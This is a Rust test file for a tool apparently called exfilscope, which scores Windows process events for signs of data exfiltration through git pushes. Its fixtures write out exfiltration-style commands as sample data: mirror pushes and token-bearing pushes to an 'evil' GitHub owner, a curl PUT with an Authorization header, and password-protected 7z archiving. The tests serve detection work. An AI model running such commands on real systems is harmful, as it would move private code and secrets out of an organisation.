//! Activities and evidence: the reasons, and that neither the order of arrival nor how much is kept changes them.

#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a test says what fails by failing"
)]

use exfilscope::detect::evidence::owners::TrustedOwners;
use exfilscope::detect::pattern::Patterns;
use exfilscope::detect::profile::Profile;
use exfilscope::model::batch::{Batch, EventHead, SourceId};
use exfilscope::model::event::Field;
use exfilscope::model::guid::Guid;
use exfilscope::model::row::AlertRow;
use exfilscope::model::time::Timestamp;
use exfilscope::store::evidence::EvidenceOptions;
use exfilscope::store::list::listing::{Listing, Query};
use exfilscope::store::tuning_matches::TuningMatches;
use exfilscope::store::{Collect, HostNaming, Store};
use proptest::prelude::*;

const GIT: &str = r"C:\Program Files\Git\cmd\git.exe";
const CMD: &str = r"C:\Windows\System32\cmd.exe";
const DAY: i64 = 86_400;

#[derive(Clone, Debug)]
struct Event {
    code: u16,
    record: u64,
    second: i64,
    process: u8,
    parent: u8,
    fields: Vec<(Field, String)>,
}

fn event(code: u16, second: i64, (process, parent): (u8, u8), fields: &[(Field, &str)]) -> Event {
    let mut fields: Vec<_> = fields.iter().map(|(field, text)| (*field, (*text).to_owned())).collect();
    fields.push((Field::Computer, "WS-1".to_owned()));
    fields.push((Field::User, r"CORP\ann".to_owned()));
    Event { code, record: 0, second, process, parent, fields }
}

fn start(second: i64, process: (u8, u8), image: &str, line: &str, parent: (&str, &str)) -> Event {
    let fields = [
        (Field::Image, image),
        (Field::CommandLine, line),
        (Field::ParentImage, parent.0),
        (Field::ParentCommandLine, parent.1),
        (Field::CurrentDirectory, r"C:\src\web\"),
    ];
    event(1, second, process, &fields)
}

fn push(second: i64, process: u8, repository: &str) -> Event {
    start(second, (process, 1), GIT, &format!("git push https://github.com/{repository} main"), (CMD, "cmd"))
}

/// The host is in the log a day before.
fn first_sight() -> Event {
    start(0, (250, 249), CMD, "cmd", (r"C:\Windows\explorer.exe", "explorer"))
}

fn rows(events: &[Event], profile: Profile, collect: Collect, is_deferred: bool) -> Vec<AlertRow> {
    let mut store = Store::new(HostNaming::Computer, collect);
    store.set_evidence_options(EvidenceOptions {
        trusted: TrustedOwners::new(["github.com/corp-example"]),
        ..EvidenceOptions::default()
    });
    if is_deferred {
        store.defer_joins();
    }
    for event in events {
        let mut batch = Batch::new(SourceId(0));
        let guid = |number: u8| Some(Guid::from_written_order([number; 16]));
        let head = EventHead {
            event_code: event.code,
            time: Some(Timestamp::from_unix(1_770_000_000 + event.second, 0, 7)),
            record_id: Some(event.record),
            place: event.record,
            process_guid: guid(event.process),
            parent_process_guid: guid(event.parent).filter(|_| event.code == 1),
        };
        batch.push(head, event.fields.iter().map(|(field, text)| (*field, text.as_str())));
        store.ingest(batch);
    }
    store.finish_joins();
    let mut tuning = TuningMatches::new(Patterns::new(None, None).unwrap());
    tuning.extend(&store);
    let query = Query { min_score: 0, ..Query::alerts(profile) };
    let listing = Listing::new(&mut store, &tuning, &query);
    listing.findings.iter().filter_map(|id| store.row(*id, profile, &tuning)).collect()
}

fn numbered(mut events: Vec<Event>) -> Vec<Event> {
    for (record, event) in (1..).zip(&mut events) {
        event.record = record;
    }
    events
}

/// The items of the row of the last event.
fn items(events: Vec<Event>) -> Vec<&'static str> {
    let events = numbered(events);
    let last = u64::try_from(events.len()).unwrap();
    let rows = rows(&events, Profile::Correlated, Collect::Joins, true);
    let row = rows.iter().find(|row| row.record_id == Some(last)).unwrap();
    row.evidence.iter().map(|item| item.item).collect()
}

#[test]
fn each_reason_is_found() {
    let now = 5 * DAY;
    let push_now = || push(now, 9, "evil/loot");
    let seven = |second, line: &str| start(second, (7, 1), r"C:\7-Zip\7z.exe", line, (CMD, "cmd"));
    let git = |second, line: &str| start(second, (8, 1), GIT, line, (CMD, "cmd"));
    let curl = |line: &str| start(now, (9, 1), r"C:\Windows\System32\curl.exe", line, (CMD, "cmd"));
    let cases: Vec<(&str, Vec<Event>, &[&str])> = vec![
        ("unknown host", vec![push_now()], &[]),
        ("new owner", vec![first_sight(), push_now()], &["new-owner", "first-push"]),
        ("second push", vec![first_sight(), push(now - DAY, 5, "evil/x"), push_now()], &[]),
        (
            "usual owner",
            vec![first_sight(), push(2 * DAY, 4, "evil/x"), push(3 * DAY, 5, "evil/x"), push_now()],
            &["usual-owner"],
        ),
        ("archive", vec![seven(now - 60, "7z a x.zip"), push_now()], &["archive"]),
        ("password", vec![seven(now - 60, "7z a -pX x.zip"), push_now()], &["archive", "archive-password"]),
        ("old archive", vec![seven(now - 1_900, "7z a x.zip"), push_now()], &[]),
        ("extraction", vec![seven(now - 60, "7z x x.zip"), push_now()], &[]),
        ("init", vec![git(now - 60, "git init"), push_now()], &["git-init"]),
        ("ours", vec![push(now, 9, "corp-example/web")], &["trusted-owner"]),
        ("look-alike", vec![push(now, 9, "c0rp-example/web")], &["look-alike"]),
        ("no push", vec![git(now, "git clone https://github.com/prometheus/pushgateway")], &["no-push"]),
        ("mirror", vec![git(now, "git push --mirror https://github.com/evil/x")], &["whole-repository"]),
        ("token", vec![git(now, "git push https://a:b@github.com/evil/x")], &["token"]),
        (
            "header",
            vec![curl(
                "curl -X PUT -H \"Authorization: token x\" https://api.github.com/repos/o/r/contents/x",
            )],
            &["token"],
        ),
    ];
    for (name, events, expected) in cases {
        assert_eq!(items(events), expected, "{name}");
    }
}

#[test]
fn parents_are_seen_to_the_root() {
    let word = r"C:\Program Files\Microsoft Office\WINWORD.EXE";
    let shell = start(10, (2, 3), CMD, "cmd /c x.bat", (word, "winword a.docm"));
    let inner = start(20, (1, 2), CMD, "cmd", (CMD, "cmd /c x.bat"));
    let events = vec![shell, inner, push(30, 9, "evil/loot")];
    assert_eq!(items(events), ["unusual-parent"]);
}

#[test]
fn tool_and_wrapper_are_one_activity() {
    let line = "git push https://github.com/evil/loot main";
    let outer = format!("cmd /c \"{line}\"");
    let core = r"C:\Program Files\Git\mingw64\bin\git.exe";
    let events = numbered(vec![
        start(1, (2, 1), CMD, &outer, (r"C:\Windows\explorer.exe", "explorer")),
        start(2, (3, 2), GIT, line, (CMD, &outer)),
        start(3, (4, 3), core, "git.exe push https://github.com/evil/loot main", (GIT, line)),
        push(4, 9, "evil/loot"),
    ]);
    let rows = rows(&events, Profile::Correlated, Collect::Everything, false);
    let of = |record| rows.iter().find(|row| row.record_id == Some(record)).unwrap();
    assert_eq!(of(2).activity, of(3).activity);
    assert_ne!(of(2).activity, of(4).activity);
    assert_eq!(of(2).incident, of(4).incident, "one user, one owner, within half an hour");
    assert!(rows.iter().all(|row| row.owner.as_deref() == Some("github.com/evil")));
}

/// Processes with one Event 1 each, whose parents come before them, and what they do.
fn world() -> impl Strategy<Value = Vec<Event>> {
    let one = (0_u8..7, 0_i64..8, any::<u8>());
    proptest::collection::vec(one, 1..16).prop_map(|all| {
        let made = (2_u8..).zip(all).map(|(process, (kind, half_day, parent))| {
            let second = half_day * DAY / 2 + i64::from(kind) * 100;
            let parent = 1 + parent % (process - 1);
            let ids = if matches!(kind, 4 | 5) { (parent, 0) } else { (process, parent) };
            let parents = [(CMD, "cmd"), (GIT, "git push https://github.com/a/x main")];
            let by = parents[usize::from(parent % 2)];
            let owner = ["a", "b", "corp-example"][usize::from(process % 3)];
            match kind {
                0 | 1 => {
                    let line = format!("git push https://github.com/{owner}/x main");
                    start(second, ids, GIT, &line, by)
                }
                2 => start(second, ids, r"C:\7-Zip\7z.exe", "7z a -px y.zip", by),
                3 => start(second, ids, GIT, "git init", by),
                4 => {
                    event(3, second, ids, &[(Field::Image, GIT), (Field::DestinationHostname, "github.com")])
                }
                5 => event(
                    11,
                    second,
                    ids,
                    &[(Field::Image, r"C:\7-Zip\7z.exe"), (Field::TargetFilename, r"C:\x\y.zip")],
                ),
                _ => start(second, ids, r"C:\ProgramData\x.exe", "x.exe", by),
            }
        });
        numbered(made.collect())
    })
}

proptest! {
    #[test]
    fn neither_order_nor_collection_matters(events in world(), seed in any::<u64>()) {
        let expected = rows(&events, Profile::Correlated, Collect::Everything, false);
        let mut shuffled = events.clone();
        let mut state = seed | 1;
        for at in (1..shuffled.len()).rev() {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            shuffled.swap(at, usize::try_from(state >> 33).unwrap() % (at + 1));
        }
        for (events, name) in [(&events, "in order"), (&shuffled, "shuffled")] {
            for (collect, is_deferred) in [
                (Collect::Everything, false),
                (Collect::Leads, false),
                (Collect::Joins, false),
                (Collect::Joins, true),
            ] {
                let found = rows(events, Profile::Correlated, collect, is_deferred);
                prop_assert_eq!(&found, &expected, "{} {:?} {}", name, collect, is_deferred);
            }
        }
    }
}
